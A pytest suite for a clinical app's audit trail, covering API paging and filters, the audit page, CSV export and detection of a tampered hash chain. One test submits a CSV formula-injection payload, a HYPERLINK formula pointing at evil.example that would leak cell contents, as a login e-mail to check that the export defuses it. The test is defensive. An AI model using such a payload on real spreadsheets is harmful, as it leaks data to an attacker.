"""The auditor's view of the trail: ``/api/audit`` in pages, its filters, the ``/audit`` page,
its CSV download and the chain's status (intact, and tampered with in the database)."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text

from careloop.trust import audit, identity
from careloop.trust.audit import REPORT_COLUMNS, AuditEvent
from careloop.web.app import create_app
from tests.foundation import Installation, build_installation, make_settings
from tests.trust import tampering
from tests.web.dashboard_demo import DEMO_GROUP

Entry = dict[str, Any]


@pytest.fixture(scope="module", autouse=True)
def busy_trail(installation: Installation) -> None:
    """250 more entries of every kind, so that pages and filters have something to do."""
    events = [
        AuditEvent(
            action=("read", "create", "update", "export", "login_failed")[i % 5],
            category=("clinical", "identity", "consent", "audit")[i % 4],
            outcome=("success", "success", "denied", "not_found", "failure")[i % 5],
            user_email=f"user{i % 7}@example.org",
            role="clinician",
            site_code=("A", "B", None)[i % 3],
            details={"i": i},
        )
        for i in range(250)
    ]
    with installation.registry.transaction() as session:
        audit.append_many(session, events)


def _get(api: Any, inst: Installation, url: str, user: str = "auditor") -> Any:
    return api.get(url, headers={"Authorization": f"Bearer {inst.tokens[user]}"})


def _link(response: Any, rel: str) -> str | None:
    for part in response.headers.get("link", "").split(","):
        found = re.fullmatch(rf'\s*<([^>]+)>;\s*rel="{rel}"\s*', part)
        if found:
            return found.group(1)
    return None


def _walk(api: Any, inst: Installation, url: str) -> list[Entry]:
    """Every entry the ``next`` links lead to, from ``url`` on."""
    seen: list[Entry] = []
    next_url: str | None = url
    while next_url:
        response = _get(api, inst, next_url)
        assert response.status_code == 200, response.text
        seen.extend(response.json())
        next_url = _link(response, "next")
    return seen


def _all_entries(inst: Installation) -> list[Entry]:
    """The whole trail read straight from the database, newest first."""
    with inst.registry.read_transaction() as session:
        rows = session.execute(text("SELECT * FROM audit_entry ORDER BY seq DESC")).mappings()
        return [dict(r) for r in rows]


def _pseudo_id(inst: Installation, patient_id: int) -> str:
    with inst.registry.read_transaction() as session:
        return str(
            session.execute(
                text("SELECT pseudo_id FROM patient WHERE id = :id"), {"id": patient_id}
            ).scalar_one()
        )


def test_the_api_honours_limit_and_its_next_links_walk_every_entry_exactly_once(api, installation):
    first = _get(api, installation, "/api/audit?limit=25")
    assert first.status_code == 200 and len(first.json()) == 25
    assert _link(first, "prev") is None
    top = first.json()[0]["seq"]
    walked = [e["seq"] for e in _walk(api, installation, "/api/audit?limit=25")]
    # The walk started after ``first`` (an audited read): count what existed then.
    expected = [e["seq"] for e in _all_entries(installation) if e["seq"] <= top]
    assert walked[walked.index(top) :] == expected
    assert len(walked) == len(set(walked))


def test_the_prev_link_leads_back_to_the_newer_page(api, installation):
    first = _get(api, installation, "/api/audit?limit=10&action=create")
    second = _get(api, installation, _link(first, "next") or "")
    assert [e["seq"] for e in second.json()] < [e["seq"] for e in first.json()]
    back = _get(api, installation, _link(second, "prev") or "")
    assert back.json() == first.json()
    assert "action=create" in (_link(second, "prev") or "")


def test_the_default_page_holds_100_entries_and_the_fields_callers_read(api, installation):
    entries = _get(api, installation, "/api/audit").json()
    assert len(entries) == 100
    assert set(REPORT_COLUMNS) <= set(entries[0])
    assert [e["seq"] for e in entries] == sorted((e["seq"] for e in entries), reverse=True)


def _filters(inst: Installation) -> dict[str, tuple[str, Callable[[Entry], bool]]]:
    pid = inst.patient_ids["A"][0]
    pseudo = _pseudo_id(inst, pid)
    email = inst.emails["clinician@A"]
    middle = _all_entries(inst)[40]["occurred_at"]
    return {
        "action": ("action=create", lambda e: e["action"] == "create"),
        "refused": ("outcome=refused", lambda e: e["outcome"] in ("denied", "not_found")),
        "success": ("outcome=success", lambda e: e["outcome"] == "success"),
        "site": ("site=B", lambda e: e["site_code"] == "B"),
        "user, any case": (f"user={quote(email.upper())}", lambda e: e["user_email"] == email),
        "kind": ("category=identity", lambda e: e["category"] == "identity"),
        "patient": (f"patient={pseudo}", lambda e: e["patient_pseudo_id"] == pseudo),
        "since": (f"since={quote(middle)}", lambda e: e["occurred_at"] >= middle),
        "until": (f"until={quote(middle)}", lambda e: e["occurred_at"] < middle),
        "two at once": (
            "site=A&outcome=refused",
            lambda e: e["site_code"] == "A" and e["outcome"] in ("denied", "not_found"),
        ),
    }


FILTERS = [
    "action",
    "refused",
    "success",
    "site",
    "user, any case",
    "kind",
    "patient",
    "since",
    "until",
    "two at once",
]


@pytest.mark.parametrize("name", FILTERS)
def test_each_filter_returns_exactly_the_matching_entries(api, installation, name):
    # A refused read and a read of patient A1 by the clinician, so each filter has entries.
    _get(api, installation, f"/api/patients/{installation.patient_ids['B'][0]}", "clinician@A")
    _get(api, installation, f"/api/patients/{installation.patient_ids['A'][0]}", "clinician@A")
    query, keep = _filters(installation)[name]
    top = _all_entries(installation)[0]["seq"]
    walked = [e["seq"] for e in _walk(api, installation, f"/api/audit?limit=1000&{query}")]
    expected = [e["seq"] for e in _all_entries(installation) if e["seq"] <= top and keep(e)]
    assert expected, f"the installation has no entry for {name}"
    assert [s for s in walked if s <= top] == expected


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ("limit=0", "limit"),
        ("limit=1001", "limit"),
        ("limit=ten", "limit"),
        ("before=-1", "before"),
        ("before=9&after=3", "after"),
        ("outcome=maybe", "outcome"),
        ("since=yesterday", "since"),
        ("since=2026-02-01T00:00:00Z&until=2026-01-01T00:00:00Z", "until"),
        (f"user={'x' * 255}", "user"),
        ("since=0001-01-01T00:00:00%2B14:00", "since"),
    ],
)
def test_a_bad_parameter_is_refused_naming_it(api, installation, query, parameter):
    response = _get(api, installation, f"/api/audit?{query}")
    assert response.status_code == 422, response.text
    locations = [d["location"] for d in response.json()["error"]["details"]]
    assert any(loc.split(".")[-1] == parameter for loc in locations), locations


def _csv(text_: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text_)))


def test_the_download_holds_every_matching_entry_newest_first_and_is_audited_once(
    api, installation
):
    before = _all_entries(installation)
    top = before[0]["seq"]
    response = _get(api, installation, "/audit.csv?site=A")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = _csv(response.text)
    assert tuple(rows[0]) == REPORT_COLUMNS
    seqs = [int(r[0]) for r in rows[1:]]
    assert seqs == [e["seq"] for e in before if e["site_code"] == "A"]
    new = [e for e in _all_entries(installation) if e["seq"] > top]
    exports = [e for e in new if e["action"] == "export" and e["category"] == "audit"]
    assert len(exports) == 1 and '"site":"A"' in exports[0]["details"]


def test_a_formula_typed_as_an_e_mail_cannot_run_in_the_download(api, installation):
    formula = '=HYPERLINK("http://evil.example/"&A1,"Click")@example.org'
    page = api.get("/login")
    token = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)  # type: ignore[union-attr]
    api.post("/login", data={"email": formula, "password": "no", "csrf_token": token})
    rows = _csv(_get(api, installation, "/audit.csv?action=login_failed").text)
    emails = [r[REPORT_COLUMNS.index("user_email")] for r in rows[1:]]
    assert "'" + formula.lower() in emails
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows[1:] for cell in r)


def test_the_page_shows_the_chain_a_filtered_page_and_is_audited_once(api, installation):
    top = _all_entries(installation)[0]["seq"]
    response = _get(api, installation, "/audit?outcome=refused")
    assert response.status_code == 200
    page = response.text
    assert "The audit trail is intact" in page
    assert "Knowledge decisions" in page
    shown = re.findall(r'<td data-label="Outcome">([^<]*)</td>', page)
    assert shown and set(shown) <= {"refused", "refused (not found)"}
    assert len(shown) <= 50
    assert 'href="/audit.csv?outcome=refused"' in page
    new = [e for e in _all_entries(installation) if e["seq"] > top]
    assert [(e["action"], e["category"]) for e in new] == [("read", "audit")]
    assert '"view":"audit page"' in new[0]["details"]


def test_the_page_pages_fifty_entries_at_a_time(api, installation):
    first = _get(api, installation, "/audit").text
    rows = re.findall(r'<td data-label="Entry">(\d+)</td>', first)
    assert len(rows) == 50
    older = re.search(r'href="(/audit\?before=\d+)" rel="next"', first)
    assert older is not None
    second = _get(api, installation, older.group(1)).text
    more = re.findall(r'<td data-label="Entry">(\d+)</td>', second)
    assert more and max(int(s) for s in more) < min(int(s) for s in rows)
    assert 'rel="prev"' in second


@pytest.mark.parametrize(
    ("query", "said"),
    [
        ("since=1st+of+May", "is not a date"),
        ("outcome=perhaps", "Choose done, refused or failed"),
        ("since=2026-03-01&until=2026-02-01", "must be after"),
        ("until=9999-12-31", "is not a date"),
    ],
)
def test_a_bad_filter_on_the_page_says_what_to_fix(api, installation, query, said):
    response = _get(api, installation, f"/audit?{query}")
    assert response.status_code == 422
    assert said in response.text and "<form" in response.text


@pytest.fixture
def small_site(tmp_path) -> Iterator[tuple[Installation, TestClient]]:
    inst = build_installation(make_settings(tmp_path, None), with_users=False)
    identity.add_user(
        inst.registry,
        inst.operator,
        email="audrey@example.org",
        display_name="Audrey",
        password="a long enough password",
        roles=[("auditor", None)],
    )
    created = identity.create_token(
        inst.registry, inst.operator, name="t", for_user="audrey@example.org"
    )
    inst.tokens["auditor"] = created.token
    with TestClient(create_app(inst.settings)) as client:
        yield inst, client
    inst.registry.close()


def test_the_page_says_where_a_tampered_chain_breaks(small_site):
    inst, client = small_site
    intact = _get(client, inst, "/audit").text
    assert "The audit trail is intact" in intact
    victim = _all_entries(inst)[-3]["seq"]
    with inst.registry.engine.begin() as conn, tampering.triggers_off(conn):
        conn.execute(
            text("UPDATE audit_entry SET user_email = 'someone.else@example.org' WHERE seq = :s"),
            {"s": victim},
        )
    # The page reuses a check for a few minutes (it says so): within them, the old answer.
    assert "The audit trail is intact" in _get(client, inst, "/audit").text
    client.app.state.audit_chain.forget()  # type: ignore[attr-defined]
    broken = _get(client, inst, "/audit").text
    assert f"The audit trail is BROKEN at entry {victim}" in broken
    assert "its content does not match its hash" in broken
    assert 'role="alert"' in broken


def test_the_chain_check_is_walked_again_once_it_is_older_than_its_age(small_site):
    inst, client = small_site
    cache = client.app.state.audit_chain  # type: ignore[attr-defined]
    cache.max_age = 0.0
    first = cache.status(inst.registry)
    second = cache.status(inst.registry)
    assert second.checked_at >= first.checked_at and second is not first
    cache.max_age = 3600.0
    assert cache.status(inst.registry) is cache.status(inst.registry)
    assert datetime.now(UTC) - second.checked_at < timedelta(minutes=5)


@DEMO_GROUP
def test_the_page_lists_the_demo_s_knowledge_decisions_with_who_and_when(demo, app):
    me = demo.login("auditor")
    client = TestClient(app)
    login = client.get("/login")
    token = re.search(r'name="csrf_token" value="([^"]+)"', login.text).group(1)  # type: ignore[union-attr]
    signed_in = client.post(
        "/login",
        data={"email": me.email, "password": me.password, "csrf_token": token, "next": "/"},
        follow_redirects=False,
    )
    assert signed_in.status_code == 303
    page = client.get("/audit").text
    section = page[page.index("Knowledge decisions") :]
    for decision in ("proposed (new version added)", "sent for review", "approved"):
        assert f'<td data-label="Decision">{decision}</td>' in section, decision
    assert 'href="/audit"' in client.get("/").text  # the navigation leads here
